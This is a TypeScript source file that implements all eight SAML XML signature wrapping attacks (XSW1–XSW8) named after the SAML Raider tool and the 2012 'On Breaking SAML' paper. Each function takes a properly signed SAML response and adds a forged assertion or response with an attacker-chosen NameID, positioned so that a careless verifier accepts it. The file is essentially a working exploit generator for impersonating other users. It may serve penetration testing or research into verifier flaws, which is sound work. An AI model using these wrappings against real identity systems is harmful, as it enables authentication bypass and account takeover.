import { edit, find } from './signature';

/**
 * The eight signature wrapping attacks of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., 2012), by
 * the numbers of the SAML Raider tool. Each takes a response that is well signed, the first two over the Response and the
 * others over the Assertion, and adds a forged copy that names the attacker's choice, where a careless reader finds it.
 */
export const wrappings: Record<string, (xml: string, nameId: string) => string> = {
  XSW1: (xml, nameId) =>
    edit(xml, (document) => {
      const { original, forged } = forgedRoot(document, nameId);
      find(forged, 'Signature').appendChild(original);
    }),
  XSW2: (xml, nameId) =>
    edit(xml, (document) => {
      const { original, forged } = forgedRoot(document, nameId);
      forged.insertBefore(original, find(forged, 'Signature'));
    }),
  XSW3: (xml, nameId) =>
    edit(xml, (document) => {
      const original = find(document, 'Assertion');
      original.parentNode?.insertBefore(withoutSignature(forgedCopy(original, nameId)), original);
    }),
  XSW4: (xml, nameId) =>
    edit(xml, (document) => {
      const original = find(document, 'Assertion');
      const forged = withoutSignature(forgedCopy(original, nameId));
      original.parentNode?.replaceChild(forged, original);
      forged.appendChild(original);
    }),
  XSW5: (xml, nameId) =>
    edit(xml, (document) => {
      const original = find(document, 'Assertion');
      const forged = forgedCopy(original, nameId);
      original.parentNode?.replaceChild(forged, original);
      forged.parentNode?.appendChild(withoutSignature(original));
    }),
  XSW6: (xml, nameId) =>
    edit(xml, (document) => {
      const original = find(document, 'Assertion');
      const forged = forgedCopy(original, nameId);
      original.parentNode?.replaceChild(forged, original);
      find(forged, 'Signature').appendChild(withoutSignature(original));
    }),
  XSW7: (xml, nameId) =>
    edit(xml, (document) => {
      const original = find(document, 'Assertion');
      const extensions = document.createElementNS(
        find(document, 'Response').namespaceURI,
        'samlp:Extensions',
      );
      // The schema lets anything stand in Extensions, and this copy keeps the ID of the original.
      const forged = withoutSignature(forgedCopy(original, nameId));
      forged.setAttribute('ID', original.getAttribute('ID') ?? '');
      extensions.appendChild(forged);
      original.parentNode?.insertBefore(extensions, original);
    }),
  XSW8: (xml, nameId) =>
    edit(xml, (document) => {
      const original = find(document, 'Assertion');
      const forged = forgedCopy(original, nameId);
      original.parentNode?.replaceChild(forged, original);
      const signature = find(forged, 'Signature');
      const object = document.createElementNS(signature.namespaceURI, 'ds:Object');
      object.appendChild(withoutSignature(original));
      signature.appendChild(object);
    }),
};

/** Makes a forged Response the root, with the signature of the original, which then has none. */
function forgedRoot(document: Document, nameId: string): { original: Element; forged: Element } {
  const original = find(document, 'Response');
  const forged = forgedCopy(original, nameId);
  document.replaceChild(forged, original);
  return { original: withoutSignature(original), forged };
}

/** A deep copy with an ID of its own that names somebody else. */
function forgedCopy(original: Element, nameId: string): Element {
  const forged = original.cloneNode(true) as Element;
  forged.setAttribute('ID', '_forged');
  find(forged, 'NameID').textContent = nameId;
  return forged;
}

function withoutSignature(element: Element): Element {
  element.removeChild(find(element, 'Signature'));
  return element;
}
